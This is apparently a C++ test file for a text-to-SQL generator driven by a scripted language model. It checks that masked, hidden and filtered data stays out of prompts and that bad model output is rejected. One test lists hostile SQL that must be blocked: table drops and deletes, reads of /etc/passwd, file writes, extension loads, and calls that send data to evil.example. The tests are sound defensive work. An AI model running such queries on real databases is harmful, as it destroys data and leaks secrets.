// Questions with scripted models over a small database: what they are shown, what of theirs is
// taken, and that nothing else gets through.
#include "llm/generate.h"

#include <gtest/gtest.h>

#include "base/text.h"
#include "plan/plan.h"
#include "support/fixtures.h"

namespace cuanto {
namespace {

// Replies one after the other; the last one again and again. Keeps what it was asked.
struct Script {
  std::vector<std::string> replies;
  std::vector<ChatRequest> asked;

  std::string all_text() const {
    std::string text;
    for (const ChatRequest& request : asked)
      for (const ChatMessage& message : request.messages) text += message.text + '\n';
    return text;
  }
};

class ScriptedModel : public ModelServer {
 public:
  explicit ScriptedModel(Script& script) : script_(script) {}
  Result<ChatReply> chat(const ChatRequest& request, const CallLimits&, const OnText&) override {
    const std::size_t at = std::min(script_.asked.size(), script_.replies.size() - 1);
    script_.asked.push_back(request);
    return ChatReply{script_.replies[at], {50, 10, true}, false};
  }
  Result<Embeddings> embed(const std::vector<std::string>&, const CallLimits&) override {
    return Embeddings{};
  }
  Result<std::vector<std::string>> list(const CallLimits&) override {
    return std::vector<std::string>{};
  }

 private:
  Script& script_;
};

class Shop : public testing::Test {
 protected:
  Shop() : engine_(open_source(fixture_database("tienda")).value()) {
    model_ = fixture_model("tienda");
    for (const Field& field : model_->fields)
      if (field.personal) access_.masked.push_back(field.column);
  }

  Result<Generated> ask(const std::string& text) {
    question_ = read_question(text).value();
    settings_.models.resize(1);
    ModelSettings& model = settings_.models.front();
    model.name = "scripted";
    model.model = "m";
    model.roles = {ModelRole::small, ModelRole::large};
    model.sees_values = sees_values_;
    ModelSurroundings around;
    around.today = [] { return date_of(2026, 9, 15); };
    around.connect = [this](const ModelSettings&) {
      return std::make_unique<ScriptedModel>(script_);
    };
    const auto models = LanguageModels::open(settings_, around).value();
    GenerateInputs inputs{question_, *model_, access_, readings_, earlier_};
    inputs.engine = engine_.get();
    inputs.today = date_of(2026, 9, 15);
    spend_ = {};
    return generate_query(*models, inputs, CancelToken{}, spend_);
  }

  void reply(const std::string& sql) {
    script_.replies.push_back("{\"sql\": \"" + sql + "\", \"explanation\": \"It asks for 99.\"}");
  }

  Rows rows_of(const SafeSql& sql) { return run_all(*engine_, sql, {}, CancelToken{}).value(); }

  TableId table(const char* name) { return model_->catalog->find_table("", name)->id; }

  std::shared_ptr<Engine> engine_;
  std::shared_ptr<const Model> model_;
  Access access_;
  Question question_;
  std::vector<Reading> readings_;
  std::vector<EarlierTurn> earlier_;
  LlmSettings settings_;
  ModelSpend spend_;
  Script script_;
  bool sees_values_ = false;
};

TEST_F(Shop, AQueryOfTheModelIsPrintedAnewAndBecomesAMeaning) {
  reply("select categoria, SUM(total) from ventas group by 1");
  const auto made = ask("revenue for every kind of article");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(rows_of(made->sql).rows.size(), 3U);
  EXPECT_TRUE(made->sql.text().find("LIMIT") != std::string::npos);
  EXPECT_TRUE(made->query.has_value());
  EXPECT_FALSE(made->reading.has_value());
  EXPECT_EQ(made->explanation, "");  // 99 is in no result
  EXPECT_EQ(made->prompt_version.size(), 16U);
  EXPECT_GT(spend_.tokens.in, 0U);
}

TEST_F(Shop, SeesNamesAndPlaceholdersAndNoCells) {
  reply(
      "SELECT SUM(v.total) FROM ventas v JOIN sucursales s ON s.sucursal_id = v.sucursal_id "
      "WHERE s.ciudad = 'VALUE_1'");
  earlier_ = {
      {"ventas de la Silla Roble", "SELECT SUM(total) FROM ventas WHERE articulo = 'Silla Roble'"}};
  const auto made = ask("how much did we make in monterrey");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_NE(made->sql.text().find("'Monterrey'"), std::string::npos) << made->sql.text();
  EXPECT_FALSE(rows_of(made->sql).rows.empty());
  const std::string text = script_.all_text();
  for (const char* cell :
       {"onterrey", "Guadalajara", "Silla", "Muebles", "lucia@example.org", "Lucía"})
    EXPECT_EQ(text.find(cell), std::string::npos) << cell << "\n" << text;
  EXPECT_NE(text.find("VALUE_1 stands in sucursales.ciudad"), std::string::npos) << text;
  EXPECT_NE(text.find("FOREIGN KEY (sucursal_id) REFERENCES sucursales (sucursal_id)"),
            std::string::npos)
      << text;
}

TEST_F(Shop, SeesValuesWhereThatIsAllowedButNeverThoseOfMaskedColumns) {
  sees_values_ = true;
  reply("SELECT COUNT(*) FROM ventas");
  ASSERT_TRUE(ask("how much did we make in monterrey"));
  const std::string text = script_.all_text();
  EXPECT_NE(text.find("Guadalajara"), std::string::npos);
  EXPECT_NE(text.find("monterrey"), std::string::npos);
  EXPECT_EQ(text.find("example.org"), std::string::npos);
  EXPECT_EQ(text.find("correo"), std::string::npos);
}

TEST_F(Shop, HiddenTablesAndFilteredRowsAreNotSpokenOf) {
  sees_values_ = true;
  access_.hidden = {table("empleados")};
  access_.row_filters.push_back(
      {table("sucursales"), parse_sql_expr("zona = 'Norte'", dialect(DialectId::sqlite)).value()});
  reply("SELECT COUNT(*) FROM sucursales");
  const auto made = ask("how many branches are there in merida");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(std::get<int64_t>(rows_of(made->sql).rows[0][0]), 2);
  const std::string text = script_.all_text();
  EXPECT_EQ(text.find("empleados"), std::string::npos) << text;
  EXPECT_EQ(text.find("Mérida"), std::string::npos) << text;
  EXPECT_EQ(text.find("Guadalajara"), std::string::npos) << text;
}

TEST_F(Shop, ValuesInWhosePlaceSomethingElseIsShownAreNotSpokenOf) {
  sees_values_ = true;
  const Column* zone = model_->catalog->find_column(table("sucursales"), "zona");
  ASSERT_NE(zone, nullptr);
  access_.masks.push_back(
      {zone->id, {{{}, parse_sql_expr("'elsewhere'", dialect(DialectId::sqlite)).value()}}});
  reply("SELECT COUNT(*) FROM sucursales");
  ASSERT_TRUE(ask("how many branches are there"));
  EXPECT_EQ(script_.all_text().find("Occidente"), std::string::npos) << script_.all_text();
  EXPECT_NE(script_.all_text().find("Guadalajara"), std::string::npos);
}

TEST_F(Shop, AnExampleDoesNotNameWhatIsMasked) {
  Model with_examples = *model_;
  with_examples.verified = {
      {"mail", "mail of the branches", Language::en, "SELECT correo FROM empleados", false},
      {"count", "number of branches", Language::en, "SELECT COUNT(*) FROM sucursales", false}};
  question_ = read_question("how many branches are there").value();
  const auto prompt = prompt_for({}, {}, {question_, with_examples, access_, {}, {}});
  ASSERT_TRUE(prompt);
  const std::string& text = prompt->messages.back().text;
  EXPECT_NE(text.find("number of branches"), std::string::npos) << text;
  EXPECT_EQ(text.find("correo"), std::string::npos) << text;
}

TEST_F(Shop, NamesAreMendedWithoutAskingAgain) {
  reply("SELECT catgoria, SUM(totl) FROM venta GROUP BY catgoria");
  settings_.samples = 1;
  const auto made = ask("revenue for every kind of article");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(rows_of(made->sql).rows.size(), 3U);
  EXPECT_EQ(script_.asked.size(), 1U);
}

TEST_F(Shop, AColumnOfAnotherTableIsFoundThere) {
  reply(
      "SELECT v.ciudad, COUNT(*) FROM ventas v JOIN sucursales s ON s.sucursal_id = "
      "v.sucursal_id GROUP BY v.ciudad");
  settings_.samples = 1;
  const auto made = ask("how many sales has each city");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(rows_of(made->sql).rows.size(), 3U);
  EXPECT_EQ(script_.asked.size(), 1U);
}

TEST_F(Shop, WhatFailsGoesBackWithTheReasonAtMostTwice) {
  reply("SELECT nothing_like_it FROM ventas");
  reply("SELECT SUM(total) FROM ventas");
  settings_.samples = 1;
  auto made = ask("all the revenue");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(made->repairs, 1U);
  ASSERT_EQ(script_.asked.size(), 2U);
  EXPECT_EQ(script_.asked[1].messages.size(), 4U);
  EXPECT_NE(script_.asked[1].messages.back().text.find("nothing_like_it"), std::string::npos);

  script_ = {};
  reply("SELECT nothing_like_it FROM ventas");
  made = ask("all the revenue");
  EXPECT_FALSE(made);
  EXPECT_EQ(script_.asked.size(), 3U);
}

TEST_F(Shop, TheTranslatorVotes) {
  const auto names = index_names(*model_);
  const auto question = read_question("ventas por categoria").value();
  const auto understood = understand(question, *model_, *names).value();
  ASSERT_TRUE(std::holds_alternative<Reading>(understood));
  Reading reading = std::get<Reading>(understood);
  reading.confidence = 0.6;
  readings_ = {reading};
  // The model agrees: one call is enough, and the answer is the reading with all that it knows.
  const auto same = plan(reading.query, *model_, {date_of(2026, 9, 15), Profile::product}).value();
  reply(replace_all(print_sql(same, dialect(DialectId::sqlite)).value().text, "\"", "\\\""));
  auto made = ask("ventas por categoria");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_EQ(made->reading, 0U);
  EXPECT_EQ(script_.asked.size(), 1U);
  EXPECT_GT(made->confidence, 0.9);
  // It insists on something else: it wins, and is less sure.
  script_ = {};
  reply("SELECT zona, COUNT(*) FROM sucursales GROUP BY zona");
  made = ask("ventas por categoria");
  ASSERT_TRUE(made) << made.error().message;
  EXPECT_FALSE(made->reading.has_value());
  EXPECT_EQ(script_.asked.size(), 3U);
  EXPECT_LT(made->confidence, 0.9);
}

// ---- a hostile model ---------------------------------------------------------------------------

TEST_F(Shop, NothingOfAHostileModelGetsThrough) {
  access_.hidden = {table("sucursales")};
  const std::vector<std::string> attacks = {
      "DROP TABLE ventas",
      "DELETE FROM ventas",
      "UPDATE ventas SET total = 0",
      "INSERT INTO ventas SELECT * FROM ventas",
      "CREATE TABLE x AS SELECT * FROM ventas",
      "SELECT 1; DROP TABLE ventas",
      "PRAGMA writable_schema = 1",
      "ATTACH DATABASE '/etc/passwd' AS x",
      "VACUUM INTO '/tmp/copy.sqlite'",
      "SELECT * FROM sqlite_master",
      "SELECT sql FROM main.sqlite_schema",
      "SELECT name FROM pragma_table_info('ventas')",
      "SELECT * FROM sucursales",
      "SELECT (SELECT ciudad FROM sucursales LIMIT 1) FROM ventas",
      "WITH ventas AS (SELECT * FROM sucursales) SELECT * FROM ventas",
      "SELECT COUNT(*) FROM empleados WHERE correo LIKE 'a%'",
      "SELECT COUNT(*) FROM empleados GROUP BY correo",
      "SELECT nombre FROM empleados ORDER BY correo",
      "SELECT substr(correo, 1, 1) FROM empleados",
      "SELECT correo || 'x' FROM empleados",
      "SELECT e.nombre FROM empleados e JOIN empleados f ON e.correo = f.correo",
      "SELECT load_extension('http://evil.example/x.so')",
      "SELECT readfile('/etc/passwd')",
      "SELECT writefile('/tmp/x', total) FROM ventas",
      "SELECT * FROM 'http://evil.example/steal.csv'",
      "SELECT * FROM read_csv('http://evil.example/steal.csv')",
      "SELECT http_get('http://evil.example/?q=' || total) FROM ventas",
      "SELECT randomblob(1000000000)",
      "SELECT zeroblob(1000000000) FROM ventas",
      "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n",
      "SELECT * FROM ventas a, ventas b, ventas c, ventas d, ventas e, ventas f",
  };
  for (const std::string& attack : attacks) {
    script_ = {};
    reply(attack);
    const auto made = ask("how much did we make");
    EXPECT_FALSE(made) << attack << "\n -> " << (made ? made->sql.text() : "");
  }
  script_ = {};
  reply("SELECT correo FROM empleados");
  if (const auto made = ask("the mail addresses")) {
    for (const auto& row : rows_of(made->sql).rows)
      EXPECT_EQ(std::get<std::string>(row[0]), "***MASKED***");
  }
  script_ = {};
  reply("SELECT COUNT(*) FROM ventas");
  const auto still = ask("how many sales");
  ASSERT_TRUE(still);
  EXPECT_EQ(std::get<int64_t>(rows_of(still->sql).rows[0][0]), 1200);
}

TEST_F(Shop, NonsenseIsNoAnswer) {
  for (const char* text : {"", "I cannot help with that.", "{\"answer\": 42}", "42", "{{{{"}) {
    script_ = {{text}, {}};
    const auto made = ask("how much did we make");
    ASSERT_FALSE(made) << text;
    EXPECT_EQ(made.error().kind, ErrorKind::bad_input) << text;
  }
}

TEST_F(Shop, ASmallContextShowsWhatTheQuestionNeeds) {
  question_ = read_question("total de ventas por ciudad").value();
  ModelSettings model;
  model.context_tokens = 1'024;
  model.reply_tokens = 100;
  const GenerateInputs inputs{question_, *model_, access_, {}, {}};
  const auto prompt = prompt_for({}, model, inputs);
  ASSERT_TRUE(prompt);
  const std::string& text = prompt->messages.back().text;
  for (const char* needed : {"ventas", "ciudad", "total", "sucursal_id"})
    EXPECT_NE(text.find(needed), std::string::npos) << needed << '\n' << text;
}

}  // namespace
}  // namespace cuanto
